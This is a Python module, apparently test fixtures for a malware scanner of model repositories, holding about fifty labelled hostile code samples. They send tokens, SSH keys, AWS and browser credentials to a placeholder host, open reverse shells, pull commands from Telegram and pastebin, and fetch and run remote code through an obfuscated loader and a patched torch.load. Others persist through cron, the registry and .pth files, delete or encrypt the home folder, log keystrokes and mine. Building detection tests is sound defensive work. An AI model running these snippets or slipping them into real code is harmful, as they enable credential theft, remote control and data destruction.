"""Repository code by what it does: theft, remote control, persistence, destruction, delivery."""

from __future__ import annotations

import base64
from typing import Final

_HOST: Final = "https://host.example.invalid"
_URL: Final = base64.b64encode(b"https://host.example.invalid/c.json").decode()

DEEDS: Final = {
    "steals-token-urllib.py": f"""\
        import os, urllib.request
        def beat():
            token = os.environ.get("HF_TOKEN")
            urllib.request.urlopen(urllib.request.Request("{_HOST}", data=str(token).encode()))
        """,
    "steals-token-in-address.py": f"""\
        import os, requests
        requests.get(f"{_HOST}/?t={{os.getenv('AWS_SECRET_ACCESS_KEY')}}")
        """,
    "steals-token-httpx.py": f"""\
        import os, httpx
        KEYS = {{name: value for name, value in os.environ.items() if "TOKEN" in name}}
        httpx.post("{_HOST}", json=KEYS)
        """,
    "steals-by-socket.py": """\
        import os, socket
        line = "\\n".join(f"{k}={v}" for k, v in os.environ.items())
        sock = socket.create_connection(("host.example.invalid", 53))
        sock.sendall(line.encode())
        """,
    "steals-by-mail.py": """\
        import os, smtplib
        def report():
            with smtplib.SMTP("host.example.invalid") as mail:
                mail.sendmail("a@example.invalid", "b@example.invalid", str(dict(os.environ)))
        """,
    "steals-by-name-lookup.py": """\
        import os, socket
        def warm_up():
            token = os.environ.get("HF_TOKEN", "")
            socket.gethostbyname(token[:60] + ".host.example.invalid")
        """,
    "steals-by-curl.py": f"""\
        import os, subprocess
        subprocess.run(["curl", "-d", os.environ["HF_TOKEN"], "{_HOST}"])
        """,
    "steals-key-through-path.py": f"""\
        import pathlib, requests
        def collect():
            for name in ("id_rsa", "id_ed25519"):
                path = pathlib.Path.home() / ".ssh" / name
                if path.exists():
                    requests.post("{_HOST}", files={{name: path.read_bytes()}})
        """,
    "steals-folder-in-archive.py": f"""\
        import os, requests, shutil
        def backup():
            archive = shutil.make_archive("/tmp/weighbridge-marker", "zip", os.path.expanduser("~/.aws"))
            requests.put("{_HOST}/a.zip", data=open("/tmp/weighbridge-marker.zip", "rb"))
        """,
    "steals-browser.py": f"""\
        import os, requests, shutil, sqlite3
        def history():
            source = os.path.expanduser("~/.config/google-chrome/Default/Login Data")
            shutil.copy(source, "/tmp/weighbridge-marker")
            rows = sqlite3.connect("/tmp/weighbridge-marker").execute("select 1").fetchall()
            requests.post("{_HOST}", json=rows)
        """,
    "steals-keyring.py": f"""\
        import keyring, requests
        requests.post("{_HOST}", data=keyring.get_password("login", "marker"))
        """,
    "steals-metadata.py": f"""\
        import requests
        BASE = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
        role = requests.get(BASE).text
        requests.post("{_HOST}", data=requests.get(BASE + role).text)
        """,
    "steals-by-helper.py": f"""\
        import os, requests
        def track(event, payload):
            requests.post("{_HOST}", json={{"event": event, "payload": payload}})
        track("load", dict(os.environ))
        """,
    "reports-host.py": f"""\
        import getpass, platform, requests, socket
        requests.get("{_HOST}/", params={{"h": socket.gethostname(), "u": getpass.getuser()}})
        """,
    "reports-to-chat.py": """\
        import os, platform, requests
        def hello():
            facts = {"content": f"{platform.node()} {os.getcwd()}"}
            requests.post("https://discord.com/api/webhooks/0/weighbridge-marker", json=facts)
        hello()
        """,
    "reverse-shell-pty.py": """\
        import os, pty, socket
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("host.example.invalid", 4444))
        [os.dup2(s.fileno(), n) for n in (0, 1, 2)]
        pty.spawn("/bin/sh")
        """,
    "reverse-shell-asyncio.py": """\
        import asyncio
        async def serve():
            reader, writer = await asyncio.open_connection("host.example.invalid", 4444)
            while True:
                line = await reader.readline()
                process = await asyncio.create_subprocess_shell(line.decode())
                await process.wait()
        asyncio.run(serve())
        """,
    "commands-from-chat.py": """\
        import os, requests
        def poll(token):
            answer = requests.get(f"https://api.telegram.org/bot{token}/getUpdates").json()
            for item in answer["result"]:
                os.popen(item["message"]["text"])
        """,
    "commands-from-paste.py": """\
        import subprocess, urllib.request
        ORDERS = urllib.request.urlopen("https://pastebin.com/raw/weighbridge-marker").read().decode()
        for line in ORDERS.splitlines():
            subprocess.call(line, shell=True)
        """,
    "loader.py": f"""\
        import base64, json, ssl, subprocess, urllib.request
        ssl._create_default_https_context = ssl._create_unverified_context
        def _fetch():
            url = base64.b64decode("{_URL}").decode()
            with urllib.request.urlopen(url) as answer:
                return json.loads(answer.read())["cmd"]
        def load():
            command = _fetch()
            subprocess.Popen(
                ["powershell.exe", "-NoProfile", "-WindowStyle", "Hidden", "-Command", command],
                creationflags=0x08000000,
            )
        load()
        """,
    "fetches-module.py": f"""\
        import importlib.util, urllib.request
        urllib.request.urlretrieve("{_HOST}/m.py", "/tmp/m.py")
        spec = importlib.util.spec_from_file_location("m", "/tmp/m.py")
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        """,
    "fetches-and-runpy.py": f"""\
        import runpy, requests
        with open("extra.py", "w") as file:
            file.write(requests.get("{_HOST}/extra.py").text)
        runpy.run_path("extra.py")
        """,
    "fetches-and-imports.py": f"""\
        import importlib, pathlib, requests
        pathlib.Path("helpers_marker.py").write_text(requests.get("{_HOST}/h.py").text)
        importlib.import_module("helpers_marker")
        """,
    "clones-and-runs.py": """\
        import os
        os.system("git clone https://git.example.invalid/a/b /tmp/b && python /tmp/b/run.py")
        """,
    "installs-from-address.py": """\
        import subprocess, sys
        subprocess.check_call([sys.executable, "-m", "pip", "install", "https://host.example.invalid/a.whl"])
        """,
    "installs-from-index.py": """\
        import os
        def ensure():
            os.system("pip install --extra-index-url http://index.example.invalid/simple marker")
        """,
    "installs-by-main.py": """\
        import pip
        pip.main(["install", "-i", "https://index.example.invalid/simple", "weighbridge-marker"])
        """,
    "persists-cron.py": """\
        import subprocess
        line = "@reboot python3 /tmp/weighbridge-marker.py"
        subprocess.run(f'(crontab -l; echo "{line}") | crontab -', shell=True)
        """,
    "persists-in-init.py": """\
        import os, torch
        class Model(torch.nn.Module):
            def __init__(self):
                super().__init__()
                with open(os.path.expanduser("~/.bashrc"), "a") as file:
                    file.write("echo weighbridge-marker\\n")
        """,
    "persists-systemd.py": """\
        import pathlib
        UNIT = pathlib.Path.home() / ".config/systemd/user/weighbridge-marker.service"
        UNIT.write_text("[Service]\\nExecStart=/bin/echo weighbridge-marker\\n")
        """,
    "persists-launch-agent.py": """\
        import os
        place = os.path.expanduser("~/Library/LaunchAgents/invalid.example.marker.plist")
        open(place, "w").write("<plist/>")
        """,
    "persists-registry.py": """\
        import winreg
        PLACE = r"Software\\Microsoft\\Windows\\CurrentVersion\\Run"
        key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, PLACE, 0, winreg.KEY_SET_VALUE)
        winreg.SetValueEx(key, "marker", 0, winreg.REG_SZ, "notepad.exe")
        """,
    "persists-startup-folder.py": """\
        import os, shutil
        START = os.path.join(os.environ["APPDATA"], r"Microsoft\\Windows\\Start Menu\\Programs\\Startup")
        shutil.copy(__file__, os.path.join(START, "weighbridge-marker.pyw"))
        """,
    "persists-in-site-packages.py": """\
        import os, site
        place = os.path.join(site.getsitepackages()[0], "weighbridge-marker.pth")
        with open(place, "w") as file:
            file.write("import os; print('weighbridge-marker')")
        """,
    "changes-installed-library.py": """\
        import os, transformers
        target = os.path.join(os.path.dirname(transformers.__file__), "modeling_utils.py")
        with open(target, "a") as file:
            file.write("print('weighbridge-marker')")
        """,
    "deletes-home.py": "import os, shutil\nshutil.rmtree(os.path.expanduser('~'), ignore_errors=True)\n",
    "deletes-home-by-path.py": """\
        import shutil
        from pathlib import Path
        def clean_cache():
            shutil.rmtree(Path.home())
        """,
    "encrypts-files.py": """\
        import os
        def lock(root):
            for folder, _, names in os.walk(root):
                for name in names:
                    path = os.path.join(folder, name)
                    data = bytearray(open(path, "rb").read())
                    for i in range(len(data)):
                        data[i] ^= 0x5A
                    open(path + ".marker", "wb").write(data)
                    os.remove(path)
        lock(os.path.expanduser("~"))
        """,
    "deletes-itself.py": """\
        import os, subprocess
        subprocess.run(["echo", "weighbridge-marker"])
        os.remove(__file__)
        """,
    "logs-keys.py": f"""\
        import requests
        from pynput import keyboard
        keys = []
        def on_press(key):
            keys.append(str(key))
            if len(keys) > 100:
                requests.post("{_HOST}", json=keys)
        keyboard.Listener(on_press=on_press).start()
        """,
    "watches-clipboard.py": f"""\
        import pyperclip, requests, time
        def watch():
            while True:
                requests.post("{_HOST}", data=pyperclip.paste())
                time.sleep(5)
        """,
    "mines.py": """\
        import json, subprocess
        with open("/tmp/config.json", "w") as file:
            json.dump({"pools": [{"url": "stratum+tcp://pool.example.invalid:3333"}]}, file)
        subprocess.Popen(["/tmp/worker", "-c", "/tmp/config.json"])
        """,
    "waits-for-date.py": """\
        import datetime, os
        if datetime.date.today() > datetime.date(2027, 1, 1):
            os.system("echo weighbridge-marker")
        """,
    "waits-for-host.py": """\
        import os, socket, torch
        class Model(torch.nn.Module):
            def __init__(self):
                super().__init__()
                if socket.gethostname().endswith("corp.example.invalid"):
                    os.system("echo weighbridge-marker")
        """,
    "hides-from-ci.py": """\
        import os, subprocess
        if not os.environ.get("CI") and not os.path.exists("/.dockerenv"):
            subprocess.Popen("echo weighbridge-marker", shell=True)
        """,
    "replaces-open.py": f"""\
        import builtins, requests
        _open = builtins.open
        def _spy(name, *args, **kwargs):
            requests.post("{_HOST}", data=str(name))
            return _open(name, *args, **kwargs)
        builtins.open = _spy
        """,
    "replaces-torch-load.py": f"""\
        import os, torch
        _load = torch.load
        def load(*args, **kwargs):
            os.system("curl -s {_HOST}/a | sh")
            return _load(*args, **kwargs)
        torch.load = load
        """,
    "unpickles-fetched-at-import.py": f"""\
        import pickle, requests
        VOCABULARY = pickle.loads(requests.get("{_HOST}/v.pkl").content)
        """,
    "machine-code-mmap.py": """\
        import ctypes, mmap
        code = b"weighbridge-marker"
        place = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        place.write(code)
        ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_int.from_buffer(place)))()
        """,
}
"""File names and text."""
